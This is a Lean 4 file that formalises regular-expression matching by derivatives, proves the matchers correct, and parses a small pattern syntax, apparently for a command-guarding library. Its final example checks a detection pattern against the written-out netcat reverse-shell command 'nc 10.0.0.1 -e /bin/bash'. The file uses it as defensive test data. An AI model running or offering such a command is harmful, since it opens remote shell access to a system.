import Mathlib.Data.List.Basic

namespace GuardianPi.Library

inductive Regex (P : Type) where
  | empty
  | epsilon
  | letter (p : P)
  | seq (r s : Regex P)
  | alt (r s : Regex P)
  | star (r : Regex P)
  deriving DecidableEq

namespace Regex

variable {P α : Type} (holds : P → α → Bool)

def nullable : Regex P → Bool
  | .empty | .letter _ => false
  | .epsilon | .star _ => true
  | .seq r s => nullable r && nullable s
  | .alt r s => nullable r || nullable s

def derivative : Regex P → α → Regex P
  | .empty, _ | .epsilon, _ => .empty
  | .letter p, a => if holds p a then .epsilon else .empty
  | .seq r s, a =>
      if nullable r then .alt (.seq (derivative r a) s) (derivative s a) else .seq (derivative r a) s
  | .alt r s, a => .alt (derivative r a) (derivative s a)
  | .star r, a => .seq (derivative r a) (.star r)

def matchesPrefix : Regex P → List α → Bool
  | r, [] => nullable r
  | r, a :: text => nullable r || matchesPrefix (derivative holds r a) text

def matchesWhole : Regex P → List α → Bool
  | r, [] => nullable r
  | r, a :: text => matchesWhole (derivative holds r a) text

def search (r : Regex P) : List α → Bool
  | [] => matchesPrefix holds r []
  | a :: text => matchesPrefix holds r (a :: text) || search r text

inductive Matches : Regex P → List α → Prop
  | epsilon : Matches .epsilon []
  | letter {p : P} {a : α} (h : holds p a = true) : Matches (.letter p) [a]
  | seq {r s : Regex P} {u v : List α} (first : Matches r u) (second : Matches s v) :
      Matches (.seq r s) (u ++ v)
  | left {r s : Regex P} {u : List α} (h : Matches r u) : Matches (.alt r s) u
  | right {r s : Regex P} {u : List α} (h : Matches s u) : Matches (.alt r s) u
  | done {r : Regex P} : Matches (.star r) []
  | more {r : Regex P} {u v : List α} (first : Matches r u) (rest : Matches (.star r) v) :
      Matches (.star r) (u ++ v)

variable {holds}

theorem matches_seq {r s : Regex P} {w : List α} :
    Matches holds (.seq r s) w ↔ ∃ u v, w = u ++ v ∧ Matches holds r u ∧ Matches holds s v := by
  constructor
  · intro h
    cases h with
    | seq first second => exact ⟨_, _, rfl, first, second⟩
  · intro ⟨u, v, split, first, second⟩
    rw [split]
    exact .seq first second

theorem matches_alt {r s : Regex P} {w : List α} :
    Matches holds (.alt r s) w ↔ Matches holds r w ∨ Matches holds s w := by
  constructor
  · intro h
    cases h with
    | left h => exact Or.inl h
    | right h => exact Or.inr h
  · intro h
    exact h.elim .left .right

theorem matches_star_cons {r : Regex P} {a : α} {w : List α} :
    Matches holds (.star r) (a :: w) ↔
      ∃ u v, w = u ++ v ∧ Matches holds r (a :: u) ∧ Matches holds (.star r) v := by
  constructor
  · intro h
    generalize repeated : Regex.star r = s at h
    generalize word : a :: w = text at h
    induction h with
    | epsilon | letter | seq | left | right => cases repeated
    | done => cases word
    | @more r' u v first rest _ ih =>
        obtain rfl := Regex.star.inj repeated
        cases u with
        | nil => exact ih rfl word
        | cons b u =>
            obtain ⟨rfl, rfl⟩ := List.cons.inj word
            exact ⟨u, v, rfl, first, rest⟩
  · intro ⟨u, v, split, first, rest⟩
    rw [split]
    exact .more first rest

theorem nullable_iff (holds : P → α → Bool) (r : Regex P) : nullable r = true ↔ Matches holds r [] := by
  induction r with
  | empty => exact ⟨nofun, nofun⟩
  | epsilon => exact ⟨fun _ => .epsilon, fun _ => rfl⟩
  | letter p => exact ⟨nofun, nofun⟩
  | seq r s ihr ihs =>
      rw [nullable, Bool.and_eq_true, ihr, ihs, matches_seq]
      constructor
      · intro ⟨first, second⟩
        exact ⟨[], [], rfl, first, second⟩
      · intro ⟨u, v, split, first, second⟩
        obtain ⟨rfl, rfl⟩ := List.append_eq_nil_iff.mp split.symm
        exact ⟨first, second⟩
  | alt r s ihr ihs => rw [nullable, Bool.or_eq_true, ihr, ihs, matches_alt]
  | star r => exact ⟨fun _ => .done, fun _ => rfl⟩

theorem matches_derivative (r : Regex P) (a : α) (w : List α) :
    Matches holds (derivative holds r a) w ↔ Matches holds r (a :: w) := by
  induction r generalizing w with
  | empty => exact ⟨nofun, nofun⟩
  | epsilon => exact ⟨nofun, nofun⟩
  | letter p =>
      rw [derivative]
      split_ifs with h
      · constructor
        · intro m
          cases m
          exact .letter h
        · intro m
          cases m
          exact .epsilon
      · constructor
        · nofun
        · intro m
          cases m
          contradiction
  | seq r s ihr ihs =>
      have step : Matches holds (.seq (derivative holds r a) s) w ↔
          ∃ u v, w = u ++ v ∧ Matches holds r (a :: u) ∧ Matches holds s v := by
        simp only [matches_seq, ihr]
      have split : Matches holds (.seq r s) (a :: w) ↔
          (∃ u v, w = u ++ v ∧ Matches holds r (a :: u) ∧ Matches holds s v) ∨
            nullable r = true ∧ Matches holds s (a :: w) := by
        rw [matches_seq, nullable_iff holds]
        constructor
        · intro ⟨u, v, word, first, second⟩
          cases u with
          | nil => exact Or.inr ⟨first, word ▸ second⟩
          | cons b u =>
              obtain ⟨rfl, rfl⟩ := List.cons.inj word
              exact Or.inl ⟨u, v, rfl, first, second⟩
        · intro h
          rcases h with ⟨u, v, rfl, first, second⟩ | ⟨first, second⟩
          · exact ⟨a :: u, v, rfl, first, second⟩
          · exact ⟨[], a :: w, rfl, first, second⟩
      rw [derivative, split]
      split_ifs with h
      · rw [matches_alt, step, ihs]
        simp only [h, true_and]
      · rw [step]
        simp only [h, Bool.false_eq_true, false_and, or_false]
  | alt r s ihr ihs => rw [derivative, matches_alt, matches_alt, ihr, ihs]
  | star r ih => simp only [derivative, matches_seq, matches_star_cons, ih]

theorem matchesWhole_iff (r : Regex P) (text : List α) :
    matchesWhole holds r text = true ↔ Matches holds r text := by
  induction text generalizing r with
  | nil => rw [matchesWhole, nullable_iff holds]
  | cons a text ih => rw [matchesWhole, ih, matches_derivative]

theorem matchesPrefix_iff (r : Regex P) (text : List α) :
    matchesPrefix holds r text = true ↔ ∃ w, w <+: text ∧ Matches holds r w := by
  induction text generalizing r with
  | nil => simp [matchesPrefix, nullable_iff holds]
  | cons a text ih =>
      rw [matchesPrefix, Bool.or_eq_true, ih, nullable_iff holds]
      constructor
      · intro h
        rcases h with h | ⟨w, start, h⟩
        · exact ⟨[], List.nil_prefix, h⟩
        · exact ⟨a :: w, List.cons_prefix_cons.mpr ⟨rfl, start⟩, (matches_derivative r a w).mp h⟩
      · intro ⟨w, start, h⟩
        cases w with
        | nil => exact Or.inl h
        | cons b w =>
            obtain ⟨rfl, tail⟩ := List.cons_prefix_cons.mp start
            exact Or.inr ⟨w, tail, (matches_derivative r b w).mpr h⟩

theorem search_iff (r : Regex P) (text : List α) :
    search holds r text = true ↔ ∃ w, w <:+: text ∧ Matches holds r w := by
  induction text with
  | nil => simp [search, matchesPrefix, nullable_iff holds]
  | cons a text ih =>
      rw [search, Bool.or_eq_true, ih, matchesPrefix_iff]
      simp only [List.infix_cons_iff, or_and_right, exists_or]

theorem search_of_infix {r : Regex P} {text more : List α} (part : text <:+: more)
    (found : search holds r text = true) : search holds r more = true := by
  obtain ⟨w, inside, h⟩ := (search_iff r text).mp found
  exact (search_iff r more).mpr ⟨w, inside.trans part, h⟩

end Regex

inductive Letter where
  | any
  | digit
  | space
  | char (c : Char)
  | oneOf (cs : List Char)
  deriving DecidableEq

/-- The case mapping and the letter classes of Unicode, of which only the ASCII part is fixed. -/
structure Letters where
  lower : String → String
  isDigit : Char → Bool
  isSpace : Char → Bool
  sameLetter : Char → Char → Bool
  lower_ascii : ∀ s : String, (∀ c ∈ s.toList, c.toNat < 128) → lower s = s.map Char.toLower
  isDigit_ascii : ∀ c : Char, c.toNat < 128 → isDigit c = c.isDigit
  isSpace_ascii : ∀ c : Char, c.toNat < 128 →
    isSpace c = (c = ' ' || ('\t' ≤ c && c ≤ '\r') || ('\x1c' ≤ c && c ≤ '\x1f'))
  sameLetter_ascii : ∀ c d : Char, c.toNat < 128 → d.toNat < 128 →
    sameLetter c d = (c.toLower = d.toLower : Bool)

namespace Letters

def ascii : Letters where
  lower s := s.map Char.toLower
  isDigit := Char.isDigit
  isSpace c := c = ' ' || ('\t' ≤ c && c ≤ '\r') || ('\x1c' ≤ c && c ≤ '\x1f')
  sameLetter c d := c.toLower = d.toLower
  lower_ascii _ _ := rfl
  isDigit_ascii _ _ := rfl
  isSpace_ascii _ _ := rfl
  sameLetter_ascii _ _ _ _ := rfl

def holds (letters : Letters) : Letter → Char → Bool
  | .any, c => c ≠ '\n'
  | .digit, c => letters.isDigit c
  | .space, c => letters.isSpace c
  | .char d, c => letters.sameLetter d c
  | .oneOf ds, c => ds.any fun d => letters.sameLetter d c

end Letters

namespace Regex

def quantified (r : Regex Letter) : List Char → Regex Letter × List Char
  | '*' :: rest => (.star r, rest)
  | '+' :: rest => (.seq r (.star r), rest)
  | rest => (r, rest)

def escaped (c : Char) : Option Letter :=
  if c = 's' then some .space
  else if c = 'd' then some .digit
  else if c.isAlphanum then none
  else some (.char c)

mutual
/-- The fuel bounds the nesting of the calls. -/
def readAlt : Nat → List Char → Option (Regex Letter × List Char)
  | 0, _ => none
  | fuel + 1, cs =>
      match readSeq fuel cs with
      | some (r, '|' :: rest) => (readAlt fuel rest).map fun s => (.alt r s.1, s.2)
      | other => other
def readSeq : Nat → List Char → Option (Regex Letter × List Char)
  | 0, _ => none
  | fuel + 1, cs =>
      match cs with
      | [] | ')' :: _ | '|' :: _ => some (.epsilon, cs)
      | _ =>
          match readAtom fuel cs with
          | some (r, rest) =>
              let q := quantified r rest
              (readSeq fuel q.2).map fun s => (.seq q.1 s.1, s.2)
          | none => none
def readAtom : Nat → List Char → Option (Regex Letter × List Char)
  | 0, _ => none
  | fuel + 1, cs =>
      match cs with
      | '(' :: rest =>
          match readAlt fuel rest with
          | some (r, ')' :: rest) => some (r, rest)
          | _ => none
      | '[' :: rest =>
          let set := rest.takeWhile fun c => c ≠ ']'
          if set.all Char.isAlphanum && !set.isEmpty then
            some (.letter (.oneOf set), rest.drop (set.length + 1))
          else none
      | '.' :: rest => some (.letter .any, rest)
      | '\\' :: c :: rest => (escaped c).map fun p => (.letter p, rest)
      | c :: rest => if c ∈ "*+?\x7b\x7d[]^$|()\\".toList then none else some (.letter (.char c), rest)
      | [] => none
end

def parse (pattern : String) : Option (Regex Letter) :=
  match readAlt (4 * pattern.length + 4) pattern.toList with
  | some (r, []) => some r
  | _ => none

end Regex

def Letters.reSearch (letters : Letters) (pattern text : String) : Bool :=
  match Regex.parse pattern with
  | some r => r.search letters.holds text.toList
  | none => false

example : Letters.ascii.reSearch r"nc\s+.*-e\s+/bin/(sh|bash)" "nc 10.0.0.1 -e /bin/bash" = true := by
  decide +kernel

end GuardianPi.Library
